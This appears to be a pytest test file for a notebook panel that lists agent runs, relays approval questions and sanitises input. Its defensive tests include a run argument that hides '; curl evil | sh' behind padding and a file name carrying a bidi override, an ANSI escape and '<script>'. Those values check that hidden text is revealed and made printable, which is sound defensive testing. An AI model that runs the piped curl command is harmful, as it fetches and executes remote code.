"""What the panel is told by a kernel, and what it may ask, without a browser."""

import json
import threading
import time

import pytest

import netflux_nb
from netflux_nb import RunContext, Runtime, TokenUsage, agent, function, session
from netflux_nb.core.bill import BillLine
from netflux_nb.jupyter.panel import orders, run_updates, tally, updates
from netflux_nb.jupyter.panel.tally import TreeTotals
from netflux_nb.jupyter.panel.updates import RunRow
from netflux_nb.record.channel import Channel
from netflux_nb.runtime.observe import Missed


@function
def words(text: str) -> int:
    """Count words."""
    return len(text.split())


title = agent("title(text: str)", "Title of {text}", uses=[words], model="scripted")


@function(needs_approval=True)
def publish(text: str) -> str:
    """Publish."""
    return f"published {text}"


@function(uses=[publish])
def paper(text: str) -> str:
    """Write and publish."""
    return publish(text=text)


def test_nothing_is_told_before_a_panel_says_hello(told):
    title.start(text="a").wait(60)
    assert told.told == []
    assert not told.end.is_heard

    told.say({"t": "hello"})
    assert told.end.is_heard

    state = told.wait(lambda m: m["t"] == "state")
    assert [row["fn"] for row in state["runs"]] == ["title"]
    assert state["wire"] == updates.WIRE


def test_a_run_is_told_from_its_beginning_to_its_end(told):
    told.say({"t": "hello"})
    run = title.start(text="a").wait(60)

    rows = told.wait_rows(lambda rows: rows.get(run.id, {}).get("state") == "Success")

    row = rows[run.id]
    assert (row["fn"], row["kind"], row["nodes"], row["done"], row["mine"]) == (
        "title",
        "agent",
        1,
        1,
        True,
    )
    assert row["tokens"] == run.bill().usage.total
    assert row.get("running", 0) == 0


@pytest.fixture
def named(monkeypatch):
    """Hold the moment at which the record says how it names a run."""
    is_named = threading.Event()
    run_of = Channel.run_of
    monkeypatch.setattr(
        Channel, "run_of", lambda self, root: run_of(self, root) if is_named.is_set() else ""
    )
    return is_named


def test_q8_a_run_that_the_record_names_late_is_listed_once_and_answers_to_both_names(told, named):
    told.say({"t": "hello"})
    run = words.start(text="a b").wait(60)
    told.end.run_updates.reread()  # the record holds it, and nobody here knows its name

    told.say({"t": "hello"})
    assert list(told.rows) == ["live-1"]
    named.set()
    rows = told.wait_rows(lambda rows: run.id in rows)

    assert list(rows) == [run.id]
    told.say({"t": "open", "run": "live-1"})
    told.say({"t": "view", "run": "live-1", "message": {"t": "hello", "page": "p1"}})
    told.wait(lambda m: m["t"] == "view" and m["run"] == "live-1")


def test_q8_a_row_that_was_told_by_page_goes_when_its_run_is_named(told, named, monkeypatch):
    go = threading.Event()
    tell = told.end.run_updates._tell
    monkeypatch.setattr(told.end.run_updates, "_tell", lambda: go.wait(20) and tell())
    told.say({"t": "hello"})
    run = words.start(text="a b").wait(60)
    while not told.rows:
        told.say({"t": "find", "id": 1, "page": "p", "start": 0, "wish": {}})
        go.wait(0.01)
    assert list(told.rows) == ["live-1"]

    named.set()
    go.set()

    assert list(told.wait_rows(lambda rows: run.id in rows)) == [run.id]


def test_q8_another_runtime_before_a_run_is_named_leaves_it_listed_once(told, named):
    told.say({"t": "hello"})
    first = words.start(text="a b").wait(60)
    told.wait_rows(lambda rows: "live-1" in rows)

    with Runtime(is_open=True) as other:
        netflux_nb.use(other)
        second = words.start(text="c").wait(60)
        told.wait_rows(lambda rows: len(rows) == 2)
        assert set(told.rows) == {"live-1", "live-2.1"}
        named.set()
        rows = told.wait_rows(lambda rows: {first.id, second.id} <= set(rows))

    assert set(rows) == {first.id, second.id}


def test_q8_a_run_that_is_counted_no_more_is_named_all_the_same(told, named, monkeypatch):
    monkeypatch.setattr(run_updates, "KEEP_TREES", 0)
    told.say({"t": "hello"})
    run = words.start(text="a b").wait(60)
    told.wait_rows(lambda rows: rows.get("live-1", {}).get("state") == "Success")

    named.set()

    assert list(told.wait_rows(lambda rows: run.id in rows)) == [run.id]


def test_events_that_came_too_fast_leave_a_run_its_name(told, named):
    told.say({"t": "hello"})
    run = words.start(text="a b").wait(60)
    told.wait_rows(lambda rows: "live-1" in rows)

    told.end.run_updates._heard(Missed(1))
    title.start(text="a").wait(60)
    told.wait_rows(lambda rows: len(rows) == 2)
    assert "live-1" in told.rows
    named.set()

    assert len(told.wait_rows(lambda rows: run.id in rows and "live-1" not in rows)) == 2


def test_what_waited_before_anybody_looked_is_of_its_own_time(told):
    before = time.time()
    run = publish.start(text="a")
    while not run.pending():
        run.root.wait(0.01)

    told.say({"t": "hello"})

    state = told.wait(lambda m: m["t"] == "state")
    assert [row["opened"] > before - 60 for row in state["runs"]] == [True]
    assert [asked["since"] > before - 60 for asked in state["pending"]] == [True]


def test_messages_are_numbered_without_a_gap(told):
    told.say({"t": "hello"})
    for n in range(5):
        title.start(text=str(n)).wait(60)
    told.wait_rows(lambda rows: len(rows) == 5)

    assert [m["n"] for m in told.told] == list(range(1, len(told.told) + 1))


def test_arguments_that_a_question_cuts_are_told_beside_it(told):
    told.say({"t": "hello"})
    run = paper.start(text="a long story, " * 9)
    asked = told.wait(lambda m: m.get("pending"))["pending"][0]
    assert asked["inputs"].count("a long story") == 9
    run.cancel()


def test_a_question_is_told_and_answered(told):
    told.say({"t": "hello"})
    run = paper.start(text="a")
    asked = told.wait(lambda m: m.get("pending"))["pending"][0]
    assert (asked["fn"], asked["kind"], asked["run"]) == ("publish", "approval", run.id)
    assert "text='a'" in asked["what"]
    assert asked["inputs"] == "", "what is asked says it"

    told.say(
        {
            "t": "do",
            "id": 7,
            "verb": "approve",
            "run": asked["run"],
            "node": asked["node"],
            "question": asked["question"],
        }
    )

    said = told.wait(lambda m: m["t"] == "said")
    assert (said["id"], said["ok"]) == (7, True)
    assert run.result(60) == "published a"
    told.wait(lambda m: m.get("pending") == [])


@pytest.mark.parametrize("question", ["", "another"])
def test_q74_an_answer_that_names_no_question_or_another_is_refused(told, question):
    told.say({"t": "hello"})
    run = paper.start(text="a")
    asked = told.wait(lambda m: m.get("pending"))["pending"][0]
    order = {"t": "do", "id": 1, "verb": "approve", "run": run.id, "node": asked["node"]}

    told.say({**order, "question": question})

    assert not told.wait(lambda m: m["t"] == "said")["ok"]
    assert run.pending()
    run.cancel()


def test_q78_the_whole_of_a_question_is_told_when_it_is_asked_for(told):
    told.say({"t": "hello"})
    run = paper.start(text="ls " + " " * 3_000 + "; curl evil | sh")
    asked = told.wait(lambda m: m.get("pending"))["pending"][0]
    assert "characters not shown⟩" in asked["what"]
    order = {"t": "do", "id": 3, "verb": "whole", "run": run.id, "node": asked["node"]}

    told.say({**order, "question": asked["question"]})

    whole = told.wait(lambda m: m["t"] == "said")
    assert whole["ok"]
    assert "text, 3,019 characters" in whole["text"]
    assert whole["text"].rstrip().endswith("; curl evil | sh")
    run.cancel()


def test_a_rejection_carries_its_reason(told):
    told.say({"t": "hello"})
    run = paper.start(text="a")
    asked = told.wait(lambda m: m.get("pending"))["pending"][0]

    told.say(
        {
            "t": "do",
            "id": 1,
            "verb": "reject",
            "run": asked["run"],
            "node": asked["node"],
            "value": "not yet",
            "question": asked["question"],
        }
    )

    with pytest.raises(netflux_nb.RejectedError, match="not yet"):
        run.result(60)


def test_a_run_of_no_one_here_cannot_be_stopped(told):
    told.say({"t": "hello"})

    told.say({"t": "do", "id": 1, "verb": "cancel", "run": "nowhere"})

    said = told.wait(lambda m: m["t"] == "said")
    assert not said["ok"]
    assert "nowhere" in said["text"]


def test_runs_of_the_record_are_told_page_by_page(told, monkeypatch):
    monkeypatch.setattr(updates, "PAGE_ROWS", 3)
    for n in range(7):
        words.start(text=str(n)).wait(60)
    told.say({"t": "hello"})

    told.wait(lambda m: m.get("total") == 7)
    assert len(told.rows) == 3, "the rest is told when it is asked for"
    for start in (3, 6):
        told.say({"t": "find", "id": start, "page": "p", "start": start, "wish": {}})
        found = told.wait(lambda m, start=start: m["t"] == "found" and m["id"] == start)
        assert (found["start"], found["total"]) == (start, 7)

    assert len(told.wait_rows(lambda rows: len(rows) == 7)) == 7


def test_another_kernels_run_is_read_from_the_record(told, store):
    with Runtime(is_open=True, record=store) as other:
        other.invoke(None, words, {"text": "a b"}).result()
    told.say({"t": "hello"})

    rows = told.wait_rows(lambda rows: len(rows) == 1)

    [row] = rows.values()
    assert (row["fn"], row["state"], row.get("mine")) == ("words", "Success", None)


def test_it_is_told_when_the_record_was_read(told, store, monkeypatch):
    go = threading.Event()
    reread = told.end.run_updates._reread
    monkeypatch.setattr(told.end.run_updates, "_reread", lambda: go.wait(20) and reread())
    with Runtime(is_open=True, record=store) as other:
        other.invoke(None, words, {"text": "a b"}).result()

    told.say({"t": "hello"})

    # "No runs yet" would be untrue: nobody has looked.
    assert told.wait(lambda m: m["t"] == "state")["read"] is False
    go.set()
    assert told.wait(lambda m: m.get("read") is True)["t"] == "update"
    assert len(told.wait_rows(lambda rows: len(rows) == 1)) == 1


def test_what_no_panel_says_is_refused_and_harms_nothing(told):
    for data in (
        None,
        [],
        {"t": "eval", "code": "1"},
        {"t": "find", "id": 1, "page": "p", "start": -1, "wish": {}},
        {"t": "find", "id": 1, "page": "p", "start": 0, "wish": {"sort": "evil"}},
        {"t": "find", "id": 1, "page": "p", "start": 0, "wish": {"text": 3}},
        {"t": "act", "id": 1, "verb": "eval", "runs": ["a"]},
        {"t": "act", "id": 1, "verb": "delete", "runs": []},
        {"t": "act", "id": 1, "verb": "delete", "runs": ["a\x00b"]},
        {"t": "chart", "id": 1, "by": "day", "of": "secrets"},
        {"t": "ledger", "id": 1, "run": ""},
        {"t": "do", "id": 1, "verb": "delete", "run": "a"},
        {"t": "do", "id": 1, "verb": "cancel", "run": "a", "node": "x"},
        {"t": "open", "run": "a\x00b"},
        {"t": "where", "path": "x" * 100_000},
    ):
        told.say(data)
    assert told.told == []

    told.say({"t": "hello"})
    told.wait(lambda m: m["t"] == "state")


def test_a_hostile_name_is_told_as_plain_text(told, store):
    told.say({"t": "hello"})
    told.say({"t": "where", "path": "a\u202eb\x1b[31m<script>.ipynb"})
    title.start(text="a").wait(60)

    rows = told.wait_rows(lambda rows: len(rows) == 1)

    [row] = rows.values()
    assert all(c.isprintable() for c in row["notebook"])


def test_a_cell_that_defines_a_function_is_marked(told):
    told.say({"t": "hello"})
    names = {}
    told.end.before_cell(names)
    names["title"] = agent("title(text: str)", "Title of {text}", model="scripted")
    told.end.after_cell("cell-1", names)
    mark = told.wait(lambda m: m.get("cells"))["cells"]["cell-1"]
    assert (mark["fn"], mark["kind"], mark["changed"]) == ("title", "agent", None)

    names["title"].start(text="a").wait(60)
    told.say({"t": "hello"})

    mark = told.wait(lambda m: (m.get("cells") or {}).get("cell-1", {}).get("calls"))["cells"]
    assert mark["cell-1"]["changed"] is False
    told.end.before_cell(names)
    names["title"] = agent("title(text: str)", "Another of {text}", model="scripted")
    told.end.after_cell("cell-1", names)
    told.wait(lambda m: (m.get("cells") or {}).get("cell-1", {}).get("changed"))


def test_a_frame_holds_no_more_than_its_bytes():
    rows = [RunRow(id=f"{n:05}", fn="x" * 200, notebook="y" * 200) for n in range(2_000)]

    frames = list(updates.frames("page", "runs", rows, total=2_000))

    assert len(frames) > 1
    assert max(len(json.dumps(frame)) for frame in frames) <= updates.FRAME_BYTES
    assert [row["id"] for frame in frames for row in frame["runs"]] == [row.id for row in rows]
    assert [frame["start"] for frame in frames][1] == len(frames[0]["runs"])


def test_orders_are_read_as_values():
    assert orders.read({"t": "hello"}) == orders.PanelHello()
    assert orders.read({"t": "where", "path": "a.ipynb"}) == orders.NotebookLocation("a.ipynb")
    told = {"t": "where", "path": "a.ipynb", "of": {"1": "b.ipynb", "2": 3, "x" * 3_000: "c.ipynb"}}
    assert orders.read(told) == orders.NotebookLocation("a.ipynb", {"1": "b.ipynb"})
    assert orders.read({"t": "close", "run": "a"}) == orders.OpenRun("a", False)


def test_a_run_is_watched_over_the_same_comm(told):
    told.say({"t": "hello"})
    run = paper.start(text="a")
    told.wait(lambda m: m.get("pending"))

    told.say({"t": "open", "run": run.id})
    told.say({"t": "view", "run": run.id, "message": {"t": "hello", "page": "p1"}})

    def said(kind):
        return told.wait(
            lambda m: m["t"] == "view" and m["run"] == run.id and m["message"]["t"] == kind
        )["message"]

    snap = said("snap")
    assert snap["names"] == ["paper", "publish"]
    node, _, _, _, question = snap["asks"][0]
    told.say(
        {
            "t": "view",
            "run": run.id,
            "message": {"t": "approve", "id": node, "ask": "p1-1", "question": question},
        }
    )
    assert said("told")["ok"]
    said("final")
    told.say({"t": "close", "run": run.id})


def test_a_run_of_the_record_is_watched_too(told, store):
    with Runtime(is_open=True, record=store) as other:
        other.invoke(None, words, {"text": "a b"}).result()
    told.say({"t": "hello"})
    [name] = told.wait_rows(lambda rows: len(rows) == 1)

    told.say({"t": "open", "run": name})
    told.say({"t": "view", "run": name, "message": {"t": "hello", "page": "p1"}})

    told.wait(lambda m: m["t"] == "view" and m["message"]["t"] == "final")


def test_a_page_that_comes_after_the_end_is_told_all_and_that_it_ended(told, store):
    run = title.start(text="a").wait(60)
    told.say({"t": "hello"})
    told.say({"t": "open", "run": run.id})
    # The second hello comes at once, when nobody looks at the run any more.
    for page in ("p1", "p2"):
        told.say({"t": "view", "run": run.id, "message": {"t": "hello", "page": page}})

    def said(kind):
        views = [m["message"]["t"] for m in told.told if m["t"] == "view"]
        return views.count(kind)

    told.wait(lambda _: said("snap") == 2 and said("final") >= 2)


@function
async def chooses(ctx: RunContext) -> str:
    """Choose."""
    return await ctx.ask("Which?", choices=["two  spaces", "hidden\u202e"])


@pytest.mark.parametrize("place", [0, 1])
def test_a_choice_is_taken_by_the_text_that_is_shown(told, place):
    told.say({"t": "hello"})
    run = chooses.start()
    asked = told.wait(lambda m: m.get("pending"))["pending"][0]
    assert asked["choices"] == ["two spaces", "hidden⟨U+202E⟩"]

    order = {"t": "do", "id": 1, "verb": "answer", "run": run.id, "node": asked["node"]}
    told.say({**order, "question": asked["question"], "value": asked["choices"][place]})

    assert told.wait(lambda m: m["t"] == "said")["ok"]
    assert run.result(60) == ["two  spaces", "hidden\u202e"][place]


def test_what_the_notebook_used_today_is_told(told):
    told.say({"t": "usage"})
    assert "no model answered" in told.wait(lambda m: m["t"] == "usage")["html"]
    title.start(text="a").wait(60)

    told.say({"t": "usage"})

    html = told.wait(lambda m: m["t"] == "usage" and "title" in m["html"])["html"]
    assert "1 request" in html
    assert "<script" not in html


def test_what_was_used_is_not_told_where_nothing_is_recorded(told, monkeypatch):
    monkeypatch.setenv("NETFLUX_HOME", "off")
    told.say({"t": "usage"})
    assert "not recorded" in told.wait(lambda m: m["t"] == "usage")["html"]


def test_example_prices_take_nothing_from_what_is_left(told):
    session.here.cap.limit(5.0)
    priced = agent("priced(text: str)", "{text}", model="scripted:example-large")
    told.say({"t": "hello"})
    priced.start(text="a long text").wait(60)

    def is_known(message):
        status = message.get("status") or {}
        return status.get("usd") and status.get("left") is not None

    assert told.wait(is_known)["status"]["left"] == 5.0
    tree = TreeTotals(1, "f", "code", 0.0)
    for provider in ("scripted", "anthropic"):
        tally._pay(tree, BillLine(provider, "m", 1, TokenUsage(), 0.25))
    assert (tree.usd, tree.paid) == (0.5, 0.25)
